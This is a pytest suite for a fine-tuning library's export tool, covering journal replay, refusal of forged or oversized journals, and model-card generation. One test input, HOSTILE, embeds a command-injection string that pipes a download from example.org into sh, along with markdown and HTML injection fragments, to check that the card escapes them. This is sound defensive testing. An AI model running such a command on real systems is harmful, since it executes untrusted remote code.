"""Export and evaluate: the weights of any step, from a run's directory or its journal alone."""

import json
import math
import re
import shutil
import subprocess
import tracemalloc
import zlib
from dataclasses import replace
from hashlib import blake2b

import pytest
import torch
import yaml
from assets import read_lines
from commands import assert_refused, lezo, scores_of, train
from eager_noise import draw
from run_ends import digest_after, results_of
from safetensors.torch import load_file
from transformers import AutoModelForCausalLM

from lezo_ds.checkpoints.snapshots import read_manifest
from lezo_ds.config import config_from_dict
from lezo_ds.errors import JournalError, UserError
from lezo_ds.journal import encode_journal, read_journal
from lezo_ds.runs.export import read_file
from lezo_ds.runs.model_card import model_card
from lezo_ds.runs.opening import restore
from lezo_ds.runs.records import read_run
from lezo_ds.zo.records import StepRecord

pytestmark = pytest.mark.distributed


@pytest.fixture(scope="module")
def finished(recipe, tmp_path_factory):
    """A finished run in bf16 that keeps its last two snapshots, of steps 4 and 8."""
    run_dir = tmp_path_factory.mktemp("finished") / "run"
    train(recipe, run_dir, "model.dtype=bf16")
    return run_dir


@pytest.fixture(scope="module")
def journal(finished):
    file = finished.parent / "run.lezo"
    lezo("export", "--run", finished, "--journal", file)
    return file


@pytest.fixture(scope="module")
def model(finished):
    directory = finished.parent / "model"
    lezo("export", "--run", finished, "--out", directory)
    return directory


def test_an_exported_model_scores_as_its_run_and_keeps_its_dtype(finished, model, recipe):
    results = results_of(finished)
    own = ["--run", finished, "--journal", finished / "journal.jsonl"]
    assert_refused("export", own, "journal.jsonl exists")
    assert read_manifest(model)["digest"] == results["weights_digest"]
    data = f"data.path={recipe.parent / 'data'}"
    of_model = scores_of("--model", model, data, "data.num_test=13")
    assert (of_model["score"], of_model["num_examples"]) == (results["test"], 13)
    assert AutoModelForCausalLM.from_pretrained(model).dtype == torch.bfloat16
    assert not (model / "low_bits").exists()


def test_a_journal_and_the_base_give_the_tuned_model(finished, journal, recipe, tmp_path):
    base = shutil.copytree(recipe.parent / "model", tmp_path / "base")
    text, header = journal.read_text(), read_journal(journal).header
    assert (header.config["data"]["path"], header.config["seed"]) == ("data", 0)
    assert header.arithmetic["processor"]
    assert str(recipe.parent) not in text
    assert str(finished.parent) not in text
    source = ["--journal", journal, f"model.path={base}"]
    digests = {"best": results_of(finished)["weights_digest"], "4": digest_after(finished, 4)}
    for step, digest in digests.items():
        done = lezo("export", *source, "--step", step, "--out", tmp_path / step, num_ranks=2)
        assert "(the same as in the run)" in done.err
        assert read_manifest(tmp_path / step)["digest"] == digest
    third = [*source, "--step", "3", "--out"]
    assert_refused("export", [*third, tmp_path / "4"], f"{tmp_path / '4'} exists")
    assert "no digest in the run to compare" in lezo("export", *third, tmp_path / "3").err


def test_a_journal_that_was_cut_short_or_forged_is_refused(journal, recipe, tmp_path):
    def assert_not_exported(content, *fragments, code):
        changed = tmp_path / "changed.lezo"
        changed.write_bytes(content)
        words = ["--journal", changed, "--step", "last", "--out", tmp_path / "model"]
        words.append(f"model.path={recipe.parent / 'model'}")
        assert_refused("export", words, *fragments, code=code)
        assert not (tmp_path / "model").exists()

    data = journal.read_bytes()
    header, records, _ = read_journal(journal)
    for cut, num_steps in ((data.index(b'{"kind":"step","step":5,'), 5), (-20, 8)):
        message = f"was cut short: it ends after {num_steps} steps"
        assert_not_exported(data[:cut], message, "copy it again", code=3)
    other = encode_journal(replace(header, parameter_table_hash="0" * 32), records)
    assert_not_exported(other, "is not the base model of the run", "parameters' names", code=2)
    (last,) = (r for r in records if isinstance(r, StepRecord) and r.step == 7)
    records[records.index(last)] = replace(last, learning_rate=2e-3)
    forged = encode_journal(header, records)
    assert_not_exported(forged, "the weights of step 8 have the digest", code=1)


def with_lines(*bodies):
    """Return a journal of lines, which are bytes or an object, with their checksums."""
    content, crc = b"", 0
    for body in bodies:
        if isinstance(body, dict):
            body = json.dumps(body, separators=(",", ":")).encode()
        crc = zlib.crc32(body, crc)
        content += body[:-1] + b',"crc":"%08x"}\n' % crc
    return content


def test_what_is_malformed_or_too_large_is_refused_in_little_memory(journal, recipe, tmp_path):
    header, *lines = read_lines(journal)
    step = next(line for line in lines if line["kind"] == "step")
    del header["crc"], step["crc"]
    evaluation = b'{"kind":"evaluation","step":0,"split":"dev","loss":1'
    evaluation += b"0" * 400 + b',"metrics":{}}'

    def with_header(**changes):
        return with_lines(header | changes)

    def with_keys(section, **changes):
        return with_header(config=header["config"] | {section: header["config"][section] | changes})

    def with_steps(*changes):
        steps = [step | {"step": number, "key": 1} | each for number, each in enumerate(changes)]
        return with_lines(header, *steps)

    files = {
        "deep": with_lines(b'{"kind":"header","config":' + b"[" * 50_000 + b"}"),
        "large number": with_lines(header, evaluation),
        "types": with_header(config=[1], libraries=[], model_fingerprint=[]),
        "model config": with_header(config=header["config"] | {"model_config": [1]}),
        "rank": with_keys("peft", kind="lora", lora_rank=2**16),
        "prefix": with_keys("peft", kind="prefix", prefix_length=2**62),
        "batch": with_keys("train", batch_size=2**32),
        "directions": with_keys("zo", directions=2**40),
        "more gradients than directions": with_steps({}, {"gradients": [1.0] * 2}),
        "more blocks than the model": with_steps({"dropped": [0, 99]}),
        "more weights than blocks": with_steps({"weights": [1.0] * 7}),
        "a truth value as a gradient": with_steps({"gradients": [True]}),
        "other types": with_steps({"dropped": "12"}),
        "many lists": with_lines(header, b'{"kind":"step","x":[' + b"[]," * 80_000 + b"[]]}"),
        "many steps": with_steps(*[{}] * 10_000) + b"\n",
        "long line": with_lines(b'{"kind":"header","config":{"a":"%s"}}' % (b"x" * (2 << 20))),
        "long file": journal.read_bytes() + b"\n" * (65 << 20),
        "newer": with_header(format=2),
    }
    overrides = [f"model.path={recipe.parent / 'model'}"]
    assert read_file(journal, overrides).num_steps == 8
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        tracemalloc.start()
        with pytest.raises((UserError, JournalError)) as refusal:
            read_file(tmp_path / name, overrides)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 13 << 20, name
        assert "\n" not in str(refusal.value), name


def test_a_run_is_not_restored_without_the_adapter_that_it_started_from(finished):
    run = read_run(finished)
    started = replace(run.header, config=run.header.config | {"adapter": "0" * 32})
    with pytest.raises(UserError, match="is not the adapter that the run started from"):
        restore(replace(run, journal=run.journal._replace(header=started)), 0)


ON_THE_HUB = {
    "run_dir": "runs/x",
    "model": {"path": "owner/name@v1.2", "dtype": "bf16"},
    "data": {"task": "sst2", "train": "some/data/config:train", "test": "some/data:test"},
    "peft": {"kind": "lora", "lora_rank": 20},
}
LICENSE = {"license": "other", "license_link": "https://example.org/license"}


def test_a_card_has_what_the_hub_reads(tmp_path):
    config = config_from_dict(ON_THE_HUB, "the test")
    licensed = f"---\n{yaml.safe_dump(LICENSE)}tags: [x]\n---\n# A base model\n"
    unlicensed = ("---\nlicense: [\n---\n", "# A title\n---\nsee the license\n---\n")
    for of_base in (licensed, *unlicensed):
        (tmp_path / "README.md").write_text(of_base)
        of_run = [("test", "step 0", "x")]
        options = {"kind": "lora", "license_of": tmp_path}
        card = model_card(config, "a title", "It was made.", of_run, "sha", **options)
        _, header, text = card.split("---\n", 2)
        assert yaml.safe_load(header) == (LICENSE if of_base is licensed else {}) | {
            "base_model": "owner/name",
            "datasets": "some/data",
            "library_name": "peft",
            "pipeline_tag": "text-generation",
            "tags": ["lezo_ds"],
        }
        assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
        assert "`vllm serve owner/name --enable-lora --max-lora-rank 32 --lora-modules" in text


HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"


def test_no_string_of_a_run_becomes_markup_in_its_card(finished, model):
    text = (model / "README.md").read_text()
    assert "# model, fine-tuned on sst2\n" in text
    assert re.search(r"trained it with LeZO, .* after \d of 8 steps.", text)
    # The digest that the card states is that of the command that it names.
    command = ["bash", "-c", "sha256sum *.safetensors | sha256sum"]
    printed = subprocess.run(command, cwd=model, capture_output=True, text=True).stdout
    assert f"prints\n\n    {printed.split()[0]}" in text
    assert f"\n| test | step 0 | accuracy {results_of(finished)['zero_shot']:.4f}" in text
    config = read_run(finished).config
    hostile = config.model.model_copy(update={"path": HOSTILE})
    config = config.model_copy(update={"model": hostile})
    hostile = model_card(config, HOSTILE, HOSTILE, [(HOSTILE, "", "")], "digest")
    assert "curl" in hostile
    assert not re.search(r"\]\(http|<img|```|\| sh\b", hostile)


def hashed(text, size):
    return int.from_bytes(blake2b(text.encode(), digest_size=size).digest(), "little")


def replayed(journal, base):
    """Return the weights after a journal of normal directions of low rank, in fp32.

    Of the package, it uses the random words alone.
    """
    header, *lines = read_lines(journal)
    zo = header["config"]["zo"]
    rank = zo["noise_rank"]
    theta = load_file(base)
    for line in lines:
        if line["kind"] != "step" or line.get("applied") is False:
            continue
        share = line["lr"] / len(line["gradients"])
        for name, weights in theta.items():
            block = re.search(r"layers\.(\d+)\.", name)
            if block is None or weights.dim() != 2 or int(block[1]) in line["dropped"]:
                continue
            num_rows, num_columns = weights.shape
            delta = torch.zeros_like(weights)
            for direction, gradient in enumerate(line["gradients"]):
                key = line["key"]
                if direction > 0:
                    key = hashed(f"lezo_ds direction 1|{key}|{direction}", 8)
                coefficient = share * gradient / math.sqrt(rank)
                for place in range(rank):
                    first = 2**39 + place * num_columns
                    a = draw("normal", key, hashed(name, 4), place * num_rows, num_rows)
                    b = draw("normal", key, hashed(name, 4), first, num_columns)
                    delta = delta + (coefficient * a)[:, None] * b
            theta[name] = weights * (1 - line["lr"] * zo["weight_decay"]) - delta
    return theta


def test_a_journal_of_low_rank_is_replayed_from_the_page_of_file_formats(recipe, tmp_path):
    run_dir, out = tmp_path / "run", tmp_path / "out"
    keys = ["zo.noise_rank=2", "zo.examples_per_direction=4", "zo.estimator=grzo"]
    train(recipe, run_dir, *keys, "zo.weight_decay=1", "train.steps=4", "train.snapshot_every=0")
    lezo("export", "--run", run_dir, "--step", "last", "--out", out)
    base = recipe.parent / "model" / "model.safetensors"
    found = replayed(run_dir / "journal.jsonl", base)
    (exported,) = map(load_file, out.glob("*.safetensors"))
    start, num_changed = load_file(base), 0
    for name, weights in found.items():
        assert torch.equal(exported[name], weights), name
        num_changed += not torch.equal(weights, start[name])
    assert num_changed >= 6 * 4 - 6  # the matrices of four blocks, of which a step may drop one
